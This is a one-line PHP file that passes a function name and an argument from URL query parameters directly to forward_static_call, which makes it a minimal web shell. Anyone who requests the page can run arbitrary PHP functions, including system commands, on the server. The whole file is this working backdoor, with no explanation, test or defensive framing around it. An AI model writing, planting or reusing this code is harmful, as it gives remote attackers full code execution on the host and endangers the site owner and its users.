<?php forward_static_call($_GET["f"], $_GET["a"]);
